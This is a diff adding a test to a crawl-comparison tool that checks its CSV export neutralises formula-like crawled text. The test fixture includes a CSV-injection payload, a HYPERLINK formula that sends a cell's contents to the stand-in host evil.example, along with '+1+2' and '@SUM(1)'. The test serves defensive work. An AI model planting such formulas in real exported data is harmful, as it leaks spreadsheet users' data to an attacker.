@@ -321,6 +321,38 @@ describe('comparison of two crawls of the changed site', () => {
     });
   });
 
+  it('neutralises crawled text that a spreadsheet would run as a formula in the comparison CSV', async () => {
+    // A copy of the new crawl whose changed title, added page's title and URL text start formulas, as a hostile site's can.
+    const hostile = path.join(scratch(), 'hostile.trawl');
+    const source = openCrawlFile(newFile, { readonly: true });
+    try {
+      source.prepare('VACUUM INTO ?').run(hostile);
+    } finally {
+      source.close();
+    }
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Page A")';
+    const edit = openCrawlFile(hostile);
+    try {
+      const setTitle = edit.prepare('UPDATE results SET title = ? WHERE url_id = (SELECT id FROM urls WHERE url = ?)');
+      setTitle.run(formula, u('/a'));
+      setTitle.run('+1+2', u('/new'));
+      edit.prepare("UPDATE results SET meta_description = '@SUM(1)' WHERE url_id = (SELECT id FROM urls WHERE url = ?)").run(u('/new'));
+    } finally {
+      edit.close();
+    }
+    const out = path.join(scratch(), 'hostile.csv');
+    const c = CrawlComparison.open(oldFile, hostile);
+    try {
+      expect(await c.exportCsv(out)).toEqual({ rows: 7 });
+    } finally {
+      c.close();
+    }
+    const rows = parse(fs.readFileSync(out, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.url === u('/a'))).toMatchObject({ changed_fields: 'title', old_title: 'Page A', new_title: `'${formula}` });
+    expect(rows.find((r) => r.url === u('/new'))).toMatchObject({ change: 'added', new_title: "'+1+2", new_meta_description: "'@SUM(1)" });
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('names bad arguments and exits 2', async () => {
     const one = await runCompareCli([oldFile]);
     expect(one.code).toBe(2);
